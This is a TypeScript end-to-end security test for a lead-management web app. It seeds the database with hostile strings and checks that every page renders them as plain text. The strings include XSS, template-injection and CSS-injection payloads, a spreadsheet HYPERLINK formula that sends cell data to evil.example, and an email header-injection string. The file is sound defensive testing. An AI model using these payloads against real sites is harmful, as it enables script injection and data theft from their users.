import pg from 'pg'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { fillWorld, type Things } from './filled-world.ts'
import { pagePaths } from './page-paths.ts'
import { arrived, desktop, follow, phone, picture, startWorld, type Visitor, type World } from './world.ts'

/** What a stranger may be called, write to us or work for. `window.hacked` is what any of it would do if it could. */
const hostile = [
  '<script>window.hacked=1</script><img src=x onerror="window.hacked=1">',
  '"><svg/onload=window.hacked=1><iframe srcdoc="<script>parent.hacked=1</script>">',
  'javascript:window.hacked=1//https://evil.example/',
  '{{constructor.constructor("window.hacked=1")()}} #{window.hacked=1} <%= 7*7 %>',
  '</style></title><style>*{display:none!important}body{background:url(https://evil.example/x)}</style>',
  '\u202Egnp.exe\u202C \u2066\u202Exx \u200b\u200d\ufeff\u00ad',
  'W'.repeat(10_000),
  'not a word '.repeat(900),
  '👩🏽‍🚀🏳️‍🌈'.repeat(400),
  `Z${'\u0301\u0335\u034f'.repeat(300)}lgo`,
  '=HYPERLINK("https://evil.example/?x="&A1,"open") ﷽﷽﷽﷽﷽﷽﷽﷽',
  'عبد\u200fالرحمن \u2028 line \u2029 paragraph \r\nBcc: x@evil.example',
]

/** Columns that hold words of strangers, or of people; by their names, so that those of a new table are found too. */
const words =
  '(^|_)(name|title|subject|body|text|summary|message|reason|note|script|evidence|city|industry|url|website|problem|label|by|snippet|headline)$'
/** What only we write: who may sign in, what we are called, and how the database was made. */
const ours = ['user_account', 'api_key', 'session', 'setting_version', 'template_version', 'installation', 'lead_status_transition']

let world: World
let things: Things
let visitor: Visitor
const dialogs: string[] = []
const elsewhere: string[] = []
let spoiled = 0
beforeAll(async () => {
  world = await startWorld()
  things = await fillWorld(world)
  const owner = new pg.Client({ connectionString: world.api.database.urls.superuser })
  await owner.connect()
  const { rows } = await owner.query<{ table: string; column: string }>(
    `select quote_ident(c.table_name) as table, quote_ident(c.column_name) as column
     from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
     where c.table_schema = 'public' and t.table_type = 'BASE TABLE' and c.data_type = 'text' and c.column_name ~ $1
       and c.is_generated = 'NEVER' and c.table_name <> all($2)`,
    [words, ours],
  )
  for (const { table, column } of rows) {
    // Each row another text, with a number that keeps apart what must differ. What a constraint holds to its own words stays as it was.
    const changed = await owner
      .query(
        `update ${table} t set ${column} = ($1::text[])[1 + n.number % cardinality($1::text[])] || n.number
         from (select ctid, row_number() over () as number from ${table}) n where n.ctid = t.ctid and t.${column} is not null`,
        [hostile],
      )
      .catch(() => null)
    spoiled += changed?.rowCount ? 1 : 0
  }
  // Where an address is asked for, not only a text.
  await owner.query(`update lead set linkedin_url = 'javascript:window.hacked=1'`)
  await owner.end()
  visitor = await world.visit('Dana', '/')
  await visitor.context.addInitScript(
    `window.violations = []; addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI))`,
  )
  await visitor.page.reload()
  visitor.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  visitor.page.on('request', (request) => {
    if (!request.url().startsWith(world.api.url) && !/^(data|blob):/.test(request.url())) elsewhere.push(request.url())
  })
})
afterAll(() => world.stop())

/** What must not be on a page, whatever its data says. */
const harm = `(() => {
  return {
    ran: 'hacked' in window,
    violations: window.violations,
    links: [...document.querySelectorAll('a[href], area[href]')].map((e) => e.getAttribute('href')).filter((href) => !/^(https?:|[/?#]|mailto:|blob:)/.test(href)),
    planted: document.querySelectorAll('main script, main iframe, main object, main embed, main style, main img[src="x"], main svg[onload]').length,
    wide: document.documentElement.scrollWidth > innerWidth ? [...document.querySelectorAll('main *')]
      .filter((e) => e.getBoundingClientRect().right > innerWidth + 1).slice(0, 3).map((e) => e.tagName + '.' + e.className) : [],
    shown: document.querySelector('main').innerText.trim().length > 0,
  }
})()`

const harmOn = async (page: Page): Promise<unknown> => page.evaluate(harm)
const none = { ran: false, violations: [], links: [], planted: 0, wide: [], shown: true }

test('the data of every kind of thing is hostile', () => {
  expect(spoiled).toBeGreaterThan(25)
})

/** Where some of it must be seen. */
const showing = ['/leads', '/queue', '/replies', '/alerts', '/duplicates', '/deliveries', '/leads/:id']

test('a title of ten thousand letters pushes no message out of sight', async () => {
  const { page } = visitor
  await follow(page, '/queue')
  const head = await page.locator('.card-head').first().boundingBox()
  expect(head?.height).toBeLessThan(200)
})

test.each(pagePaths)(
  '%s shows hostile data as text: no script, no dialog, nothing from elsewhere, nothing wider than the screen',
  async (path) => {
    const { page, complaints } = visitor
    const id = path.includes(':id') ? things[path] : ''
    if (id === undefined) throw new Error(`fillWorld makes nothing for ${path}`)
    await page.setViewportSize(desktop)
    await follow(page, path.replace(':id', id))
    if (showing.includes(path))
      await page
        .getByText(/hacked|WWWWWWWW|not a word|Z\u0301|HYPERLINK|عبد/)
        .first()
        .waitFor({ state: 'attached' })
    expect(await harmOn(page), `${path} at 1280`).toEqual(none)
    await picture(page, `hostile${path.replaceAll(/[/:]+/g, '-')}`)
    await page.setViewportSize(phone)
    await arrived(page)
    expect(await harmOn(page), `${path} at 390`).toEqual(none)
    await picture(page, `hostile${path.replaceAll(/[/:]+/g, '-')}-phone`)
    expect([dialogs, elsewhere, complaints]).toEqual([[], [], []])
  },
)
